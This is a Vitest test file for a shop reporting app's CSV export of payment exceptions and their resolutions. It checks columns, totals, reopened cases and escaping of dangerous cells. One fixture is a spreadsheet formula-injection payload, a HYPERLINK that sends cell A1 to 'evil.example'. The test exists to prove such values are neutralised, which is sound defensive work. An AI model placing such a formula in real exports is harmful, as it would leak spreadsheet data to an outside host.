import { describe, expect, it } from 'vitest';
import { formatIsoInZone } from '#shared/provider-time';
import { EXCEPTION_DAY_RANGE, EXCEPTION_DAY_START, seedExceptionDay } from '#support/exception-day';
import { parseCsv } from '#support/parse-csv';
import { createTestDb } from '#support/database';
import { CSV_COLUMNS, buildCsvExport } from '#main/reports/csv';
import { reopenException, resolveException } from '#main/reports/exception-resolutions';

const LAGOS = 'Africa/Lagos';
const RESOLVED_AT = EXCEPTION_DAY_START + 18 * 3_600_000 + 1234;

function column(name: (typeof CSV_COLUMNS)[number]): number {
  return CSV_COLUMNS.indexOf(name);
}

describe('CSV export with exception resolutions', () => {
  it('puts each exception and its resolution on the rows it concerns, and parses back', () => {
    const { db } = createTestDb();
    const day = seedExceptionDay(db);
    const hostileReference = '=HYPERLINK("http://evil.example/?"&A1,"refund")';
    const hostileNote = '+234 801 234 5678, said "thanks"\nsecond line';
    resolveException(
      db,
      {
        key: `paid_late:sale:${day.paidLateSaleId}`,
        action: 'refunded',
        bankReference: hostileReference,
        note: hostileNote,
      },
      '@Ada, till 2',
      RESOLVED_AT,
    );
    resolveException(
      db,
      { key: `open_at_cutoff:sale:${day.openSaleId}`, action: 'goods_given' },
      'owner',
      RESOLVED_AT,
    );

    const out = buildCsvExport(db, EXCEPTION_DAY_RANGE);
    const [header, ...records] = parseCsv(out.csv);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(header?.slice(-6)).toEqual([
      'exception',
      'resolution',
      'resolved_by',
      'resolved_at',
      'bank_reference',
      'note',
    ]);
    for (const record of records) expect(record).toHaveLength(CSV_COLUMNS.length);
    // Four inflows, and the open sale on a row of its own.
    expect(out.rows).toBe(5);
    expect(records).toHaveLength(5);

    const bySession = new Map(records.map((r) => [r[column('session_id')], r]));
    const tail = (record: string[] | undefined) => record?.slice(-6);
    expect(tail(bySession.get(day.paidLateSessionId))).toEqual([
      'Paid late',
      'Refunded by transfer',
      "'@Ada, till 2",
      formatIsoInZone(RESOLVED_AT, LAGOS),
      `'${hostileReference}`,
      `'${hostileNote}`,
    ]);
    expect(tail(bySession.get(day.paidSessionId))).toEqual(['', '', '', '', '', '']);
    expect(tail(bySession.get(day.unmatchedSessionId))).toEqual([
      'No till of this shop made it',
      'Open',
      '',
      '',
      '',
      '',
    ]);
    expect(tail(bySession.get(day.rejectedSessionId))).toEqual([
      // One vocabulary: the till's, the report's and the PDF's words; information, not open.
      'Wrong amount ₦50.00: not accepted',
      'For information',
      '',
      '',
      '',
      '',
    ]);

    const own = records.find((r) => r[column('source')] === 'report');
    expect(own).toEqual([
      '',
      '2026-11-22T14:00:00+01:00',
      '',
      '',
      '',
      String(day.openSaleId),
      '',
      '',
      '',
      'report',
      'Still open at cut-off',
      'Goods given',
      'owner',
      formatIsoInZone(RESOLVED_AT, LAGOS),
      '',
      '',
    ]);

    // The amount column still sums the inflows only.
    const total = records.reduce(
      (sum, r) => sum + Math.round(Number(r[column('amount_naira')] || '0') * 100),
      0,
    );
    expect(total).toBe(250_000 + 100_000 + 730_050 + 5_000);
    // No exception or resolution cell holds a code (wrong_amount, goods_given...).
    for (const cell of records.flatMap((r) => r.slice(-6, -4)))
      expect(cell).not.toMatch(/_|^[a-z]/);
    // No cell a spreadsheet would evaluate.
    for (const cell of records.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('shows the current resolution, and a reopened exception as open again', () => {
    const { db } = createTestDb();
    const day = seedExceptionDay(db);
    const key = `unmatched_inflow:session:${day.unmatchedSessionId}`;
    resolveException(db, { key, action: 'credited' }, 'owner', RESOLVED_AT);
    const resolved = parseCsv(buildCsvExport(db, EXCEPTION_DAY_RANGE).csv);
    expect(resolved.find((r) => r[0] === day.unmatchedSessionId)?.slice(-6, -4)).toEqual([
      'No till of this shop made it',
      'Customer credited',
    ]);
    resolveException(db, { key, action: 'other', note: 'Wrong shop' }, 'owner', RESOLVED_AT + 1);
    const changed = parseCsv(buildCsvExport(db, EXCEPTION_DAY_RANGE).csv);
    expect(changed.find((r) => r[0] === day.unmatchedSessionId)?.slice(-6)).toEqual([
      'No till of this shop made it',
      'Other',
      'owner',
      formatIsoInZone(RESOLVED_AT + 1, LAGOS),
      '',
      'Wrong shop',
    ]);
    reopenException(db, key, 'owner', RESOLVED_AT + 2);
    const reopened = parseCsv(buildCsvExport(db, EXCEPTION_DAY_RANGE).csv);
    expect(reopened.find((r) => r[0] === day.unmatchedSessionId)?.slice(-6)).toEqual([
      'No till of this shop made it',
      'Open',
      '',
      '',
      '',
      '',
    ]);
  });
});
